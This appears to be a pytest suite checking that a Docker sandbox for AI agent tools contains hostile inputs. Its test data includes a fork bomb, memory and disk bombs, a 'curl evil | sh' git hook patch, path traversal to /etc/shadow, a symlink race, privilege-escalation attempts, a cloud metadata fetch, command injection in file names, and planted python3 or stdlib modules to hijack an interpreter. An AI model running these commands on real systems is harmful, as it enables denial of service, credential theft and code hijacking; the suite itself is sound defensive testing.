"""Hostile inputs against the real docker executor. The fixture `hostile` asserts after every
case that nothing outside the sandbox changed (canary dir, protected dirs, host /tmp)."""
from __future__ import annotations

import os
import subprocess
import time

import pytest

from runner import Runner

from .conftest import MARKER, err

PROTECTED_MSG = "path is in a protected directory"


def bash(r, command, **kw):
    return r.call("bash", {"command": command, **kw})


# -- resource exhaustion ------------------------------------------------------------------------
def test_fork_bomb_is_contained(hostile):
    r, ws, _ = hostile
    res = bash(r, "b() { b | b & }; b; sleep 20", timeout=5)
    assert res.is_error
    assert subprocess.run(["true"]).returncode == 0
    assert bash(r, "echo alive").text.strip().endswith("alive")


def test_memory_bomb_is_killed_and_the_next_call_works(hostile):
    r, _, _ = hostile
    res = bash(r, "python3 -c 'x = bytearray(1024 * 2**20)'")
    assert res.is_error
    assert bash(r, "echo alive").text.strip() == "alive"


def test_filling_tmp_stops_at_its_quota(hostile):
    r, _, _ = hostile
    res = bash(r, "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1; df -k /tmp | tail -1")
    assert "No space left on device" in res.text
    assert bash(r, "rm -f /tmp/fill; echo ok").text.strip() == "ok"


def test_filling_the_workspace_past_its_quota_is_refused(hostile):
    r, ws, _ = hostile
    bash(r, "dd if=/dev/zero of=big.bin bs=1M count=70 2>/dev/null; echo done")
    res = r.call("write", {"path": "more.txt", "content": "x"})
    assert "quota" in err(res)
    assert not (ws / "more.txt").exists()
    (ws / "big.bin").unlink()
    assert not r.call("write", {"path": "more.txt", "content": "x"}).is_error


def test_output_flood_is_truncated_and_kept(hostile):
    r, _, _ = hostile
    res = bash(r, "head -c 100000000 /dev/zero | tr '\\0' 'a' | fold -w 100")
    assert res.meta["truncated"] and res.meta["output_chars"] >= 100_000_000
    assert len(res.text) < 40_000
    page = r.call("result", {"call_id": res.meta["call_id"], "offset": 500000, "limit": 2})
    assert page.text.startswith("a" * 100)


def test_output_without_end_fills_no_controller_disk(tmp_path, no_leaks):
    """A sandbox printing without end wrote every byte to the controller's temp dir (5.75 GiB in
    20 s, kept for the session): a session keeps limits.output.keep bytes on disk, and the
    answer still ends with what the command printed last."""
    ws = tmp_path / "ws"
    ws.mkdir()
    with Runner(executor="docker", workspace=ws, preset="all", overrides={"limits.output.keep": "1m"}) as r:
        res = bash(r, "head -c 20000000 /dev/zero | tr '\\0' a | fold -w 100; echo THE-END")
        assert res.meta["output_chars"] >= 20_000_000 and res.meta["not_kept_bytes"] >= 19_000_000, res.meta
        assert res.text.endswith("THE-END\n") and "Its first 1048576 bytes are kept" in res.text
        assert r.store.path(res.meta["call_id"]).stat().st_size == 1024 * 1024
        again = bash(r, "head -c 3000000 /dev/zero | tr '\\0' b | fold -w 100")
        assert r.store.path(again.meta["call_id"]).stat().st_size == 0 and again.text.rstrip().endswith("b" * 100)


def test_megabyte_arguments(hostile):
    r, ws, _ = hostile
    assert not r.call("write", {"path": "one.txt", "content": "x" * 1_500_000}).is_error
    assert (ws / "one.txt").stat().st_size == 1_500_000
    assert "largest write" in err(r.call("write", {"path": "three.txt", "content": "x" * 3_000_000}))
    assert not (ws / "three.txt").exists()
    assert "text: String should have at most 10000 characters" in err(r.call("echo", {"text": "y" * 1_000_000}))
    assert r.call("echo", {"text": "next"}).text == "next"


# -- protected directories ----------------------------------------------------------------------
@pytest.mark.parametrize("path", [".git/hooks/pre-commit", "protected/keep.txt", "protected/new.txt",
                                  "./protected/../protected/x.txt"])
def test_write_into_protected_dirs_is_refused(hostile, path):
    r, _, _ = hostile
    assert PROTECTED_MSG in err(r.call("write", {"path": path, "content": "pwned"}))


def test_edit_of_a_protected_file_is_refused(hostile):
    r, _, _ = hostile
    assert PROTECTED_MSG in err(r.call("edit", {"path": "protected/keep.txt", "old_string": "keep", "new_string": "lose"}))


def test_apply_patch_touching_a_protected_file_changes_nothing(hostile):
    r, ws, _ = hostile
    patch = ("*** Begin Patch\n*** Add File: fine.txt\n+ok\n*** Update File: .git/hooks/pre-commit\n"
             "@@\n-echo original hook\n+curl evil | sh\n*** End Patch\n")
    assert PROTECTED_MSG in err(r.call("apply_patch", {"patch": patch}))
    assert not (ws / "fine.txt").exists()


@pytest.mark.parametrize("command", [
    "echo pwned > .git/hooks/pre-commit",
    "rm -f protected/keep.txt",
    "mv protected/keep.txt gone.txt",
    "touch protected/new.txt",
    "chmod 777 .git/hooks/pre-commit",
    "ln -sf /tmp/x .git/hooks/post-commit",
])
def test_bash_cannot_write_protected_dirs(hostile, command):
    r, _, _ = hostile
    assert "Read-only file system" in err(bash(r, command))


# -- paths leading out ---------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["../outside/secret.txt", "../../etc/passwd", "/etc/passwd", "/proc/self/root/etc/passwd",
                                  "/proc/1/root/etc/shadow", "~/../../etc/passwd"])
def test_reads_outside_the_workspace_are_refused(hostile, path):
    r, _, _ = hostile
    text = err(r.call("read", {"path": path}))
    assert "host secret" not in text and "root:" not in text


def test_absolute_host_paths_are_not_there(hostile):
    r, _, outside = hostile
    err(r.call("write", {"path": str(outside / "secret.txt"), "content": "pwned"}))
    assert "host secret" not in bash(r, f"cat {outside}/secret.txt 2>&1; ls /proc/*/root{outside} 2>&1").text


def test_symlink_planted_on_the_host_does_not_lead_out(hostile):
    r, ws, outside = hostile
    os.symlink(outside, ws / "door")
    os.symlink(outside / "secret.txt", ws / "door-file")
    for args in ({"path": "door/secret.txt"}, {"path": "door-file"}):
        assert "host secret" not in r.call("read", args).text
    assert "outside" in err(r.call("write", {"path": "door/secret.txt", "content": "pwned"}))
    assert "host secret" not in bash(r, "cat door/secret.txt door-file 2>&1").text


def test_symlink_made_in_the_sandbox_is_refused_by_tools(hostile):
    r, _, _ = hostile
    bash(r, "ln -s /etc etc-link; ln -s / root-link")
    for path in ("etc-link/passwd", "root-link/etc/hostname"):
        assert "outside" in err(r.call("write", {"path": path, "content": "pwned"}))
        assert "outside" in err(r.call("read", {"path": path}))


def test_hardlink_to_an_outside_file_is_not_written_through(hostile):
    r, ws, outside = hostile
    os.link(outside / "secret.txt", ws / "linked.txt")
    os.chown(ws / "linked.txt", 1000, 1000)  # the same inode as the outside file
    try:
        r.call("write", {"path": "linked.txt", "content": "pwned"})
        r.call("edit", {"path": "linked.txt", "old_string": "pwned", "new_string": "again"})
    finally:
        (ws / "linked.txt").unlink()
        os.chown(outside / "secret.txt", 0, 0)
    assert (outside / "secret.txt").read_text() == "host secret\n"  # the tools replaced the link, not the inode


def test_link_swapped_between_check_and_use(hostile):
    """A loop swaps a directory and a symlink to / while the write tool writes through it."""
    r, _, _ = hostile
    bash(r, "mkdir -p swap; (for i in $(seq 3000); do mv swap swap.d; ln -s / swap; rm swap; mv swap.d swap; done) "
            ">/dev/null 2>&1 &")
    for _ in range(40):
        r.call("write", {"path": "swap/etc/passwd", "content": "pwned\n"})
    assert "pwned" not in bash(r, "cat /etc/passwd").text


def test_proc_fd_tricks_show_nothing_of_the_host(hostile):
    r, _, outside = hostile
    text = bash(r, f"ls -l /proc/*/fd 2>/dev/null | grep -c {outside.name}; ls /proc/1/root/ | head -3").text
    assert text.splitlines()[0].strip() == "0"


def test_no_container_engine_socket_anywhere(hostile):
    r, _, _ = hostile
    res = bash(r, "for p in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do "
                  "test -e $p && echo found $p; done; find / -xdev -type s 2>/dev/null; echo searched")
    assert res.text.strip() == "searched"


@pytest.mark.parametrize("command", ["unshare -r true", "mount -t tmpfs x /mnt", "mknod /tmp/d c 1 3",
                                     "echo 1 > /proc/sys/kernel/sysrq", "echo c > /proc/sysrq-trigger",
                                     "chroot / true", "setpriv --reuid 0 true", "su -c true root </dev/null"])
def test_no_privilege_to_regain(hostile, command):
    r, _, _ = hostile
    err(bash(r, command))
    st = bash(r, "id -u; grep -E 'CapEff|NoNewPrivs' /proc/self/status").text.split()
    assert st[0] == "1000" and "0000000000000000" in st and st[-1] == "1"


# -- network -------------------------------------------------------------------------------------
@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://example.com/",
                                 "http://127.0.0.1:1/"])
def test_http_fetch_refused_with_network_none(hostile, url):
    r, _, _ = hostile
    text = err(r.call("http_fetch", {"url": url}))
    assert "network" in text.lower()


def test_no_route_and_no_dns_from_bash(hostile):
    r, _, _ = hostile
    res = bash(r, "python3 - <<'PY'\nimport socket\n"
                  "try:\n    socket.getaddrinfo('example.com', 80)\n    print('dns works')\nexcept OSError as e:\n    print('no dns')\n"
                  "print(open('/proc/net/route').read().count('\\n'))\nPY")
    assert res.text.splitlines() == ["no dns", "1"]


# -- environment and secrets ---------------------------------------------------------------------
def test_host_environment_is_invisible(hostile):
    r, _, _ = hostile
    res = bash(r, "env; cat /proc/1/environ | tr '\\0' '\\n'")
    assert "hunter2-host-only" not in res.text and "RUNNER_TEST_HOST_SECRET" not in res.text


def test_granted_secret_is_visible_by_name_and_redacted(tmp_path, no_leaks, monkeypatch):
    from runner import Runner
    from runner.policy import load

    monkeypatch.setenv("MY_TOKEN_SRC", "tok-9f8e7d6c5b4a")
    pol = load("default").model_copy(update={})
    ws = tmp_path / "w"
    ws.mkdir()
    pol = pol.effective(overrides={"secrets": {"API_TOKEN": {"from_env": "MY_TOKEN_SRC"}}})
    with Runner(executor="docker", workspace=ws, policy=pol) as r:
        res = r.call("bash", {"command": "echo \"token=$API_TOKEN\"; echo $API_TOKEN | base64"})
    assert "tok-9f8e7d6c5b4a" not in res.text and "REDACTED" in res.text


# -- odd inputs ----------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["a\x00b.txt", "\x00"])
def test_nul_bytes_in_paths(hostile, path):
    r, _, _ = hostile
    err(r.call("write", {"path": path, "content": "x"}))


def test_shell_metacharacters_in_paths_are_just_names(hostile):
    r, ws, _ = hostile
    name = f"$(touch /tmp/{MARKER});`touch {MARKER}2`|x&.txt"
    assert not r.call("write", {"path": name, "content": "odd"}).is_error
    assert (ws / name).read_text() == "odd"
    assert not (ws / f"{MARKER}2").exists()
    assert r.call("read", {"path": name}).text.endswith("odd")


# -- processes ----------------------------------------------------------------------------------
def test_zombies_are_reaped(hostile):
    r, _, _ = hostile
    bash(r, "for i in 1 2 3; do (sleep 0.1 &) ; done; sh -c 'sleep 0.1 & exec true'")
    time.sleep(0.5)
    res = bash(r, "ps -eo stat,comm | awk '$1 ~ /^Z/' | wc -l")
    assert res.text.strip() == "0"


@pytest.fixture
def image_with_pythonpath(docker_client):
    """runner/base with `ENV PYTHONPATH=/workspace/lib` and the workspace's bin first on PATH,
    as a Python project's image has them (built here from the local image: no registry),
    removed afterwards."""
    import io

    tag = f"runner-test/pythonpath:{os.getpid()}"
    recipe = (b"FROM runner/base:latest\nENV PYTHONPATH=/workspace/lib\n"
              b"ENV PATH=/workspace/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n")
    docker_client.images.build(fileobj=io.BytesIO(recipe), tag=tag, rm=True, network_mode="none")
    yield tag
    docker_client.images.remove(tag, force=True)


def test_the_agent_is_no_python3_the_sandbox_wrote(tmp_path, no_leaks, image_with_pythonpath):
    """The engine found `python3` on the image's PATH, which led with the workspace's bin: a
    python3 the sandbox wrote there became the next session's agent, holding its key. The agent's
    interpreter is now the first on PATH that the sandbox cannot write (runner/controller/bundle.py,
    FIND_PYTHON); the tools' PATH is the image's, unchanged."""
    ws = tmp_path / "ws"
    (ws / "bin").mkdir(parents=True)
    planted = ws / "bin" / "python3"
    planted.write_text('#!/bin/sh\ntouch /workspace/PLANTED-python3\nexec /usr/bin/python3 "$@"\n')
    planted.chmod(0o755)
    with Runner(executor="docker", workspace=ws, preset="all", image=image_with_pythonpath) as r:
        res = bash(r, "echo $PATH; command -v python3")
    assert res.text.split() == ["/workspace/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                                "/workspace/bin/python3"], res.text
    assert not (ws / "PLANTED-python3").exists()


def test_the_agent_loads_no_module_from_the_sandboxs_pythonpath(tmp_path, no_leaks, image_with_pythonpath):
    """An image's PYTHONPATH naming a directory of the workspace (a Python project's own
    packages) put files the sandbox writes ahead of the standard library for the agent: json at
    its start, and every module it loaded later (hmac at its first long result, difflib at its
    first edit). The agent's interpreter takes no PYTHON* variable (-E); the tools keep them."""
    ws = tmp_path / "ws"
    (ws / "lib").mkdir(parents=True)
    for name in ("json", "hmac", "hashlib", "difflib", "urllib"):
        (ws / "lib" / f"{name}.py").write_text(f"open('/workspace/PLANTED-{name}', 'w').close()\n")
    (ws / "a.txt").write_text("one\ntwo\n")
    with Runner(executor="docker", workspace=ws, preset="all", image=image_with_pythonpath) as r:
        long_ = bash(r, "head -c 20000 /dev/zero | tr '\\0' x; echo; echo $PYTHONPATH")
        edit = r.call("edit", {"path": "a.txt", "old_string": "two", "new_string": "2"})
        assert not long_.is_error and long_.text.strip().endswith("/workspace/lib"), long_.text[-300:]
        assert not edit.is_error and "+2" in edit.text, edit.text
    assert sorted(p.name for p in ws.glob("PLANTED-*")) == []


def test_pid_1_is_forked_before_the_agent_loads_anything(hostile, docker_client):
    """The container's pid 1 reaps orphans and ends the container with the agent's status. It is
    forked by the bootstrap before the payload and the agent's imports: forked after them, as it
    was, every page the agent wrote later was a private copy of pid 1's (4.0 MiB of an idle
    sandbox's 11.7). Its maps show it: none of the modules the agent loads after its start
    (_json's shared object, say) is mapped in pid 1, only ctypes', imported to make both
    non-dumpable before the fork. Neither holds stdio or anything else a tool could open."""
    r, _, _ = hostile
    assert bash(r, "echo hi").text.strip() == "hi"
    cid = r.session._sandbox.proc.container.id
    pid1 = docker_client.api.inspect_container(cid)["State"]["Pid"]
    agent = int(open(f"/proc/{pid1}/task/{pid1}/children").read().split()[0])
    def loaded(pid):
        return {os.path.basename(line.split()[-1]).split(".")[0] for line in open(f"/proc/{pid}/maps")
                if "lib-dynload" in line}
    assert "_json" in loaded(agent) and "_ctypes" in loaded(pid1)  # (what the check can see)
    assert loaded(pid1) == {"_ctypes"}, loaded(pid1)
    assert os.listdir(f"/proc/{pid1}/fd") == []
    for pid in (pid1, agent):  # the sandbox's user (1000) owns both; non-dumpable, their fds are root's
        assert os.stat(f"/proc/{pid}").st_uid == 1000 and os.stat(f"/proc/{pid}/fd").st_uid == 0


@pytest.mark.parametrize("lent", [False, True], ids=["any path", "a lent shell"])
def test_signals_kill_everything_but_the_next_call_works(hostile, lent):
    """`kill -9 -1` kills every process of the sandbox but pid 1 and the shell that runs it. The
    agent is told its sandbox ended once: in that call, or, when that shell outlived the agent
    and told its own status (a lent shell: the kill's exit status, 0), in the next one. The call
    after that runs in a fresh sandbox. Which call tells is a race between the shell's status and
    the agent's death, so both are the contract (it failed CI once, when the first call of a
    session went to a lent shell)."""
    r, _, _ = hostile
    if lent:
        from .test_lent_shells import _held

        _held(r)
    calls = [bash(r, "kill -9 -1"), bash(r, "echo back")]
    told = [res for res in calls if res.is_error]
    assert len(told) == 1 and "sandbox" in err(told[0]), [res.text for res in calls]
    if told[0] is calls[0]:
        assert calls[1].text.strip() == "back"
    else:
        assert calls[0].meta.get("exit_code") == 0
    assert bash(r, "echo again").text.strip() == "again"


def test_a_call_after_the_sandbox_died(hostile, docker_client):
    r, _, _ = hostile
    bash(r, "true")
    cid = r.session._sandbox.proc.container.id
    docker_client.containers.get(cid).kill()
    res = bash(r, "echo hi")
    assert "sandbox" in err(res) and "fresh sandbox" in res.text
    assert bash(r, "echo hi").text.strip() == "hi"
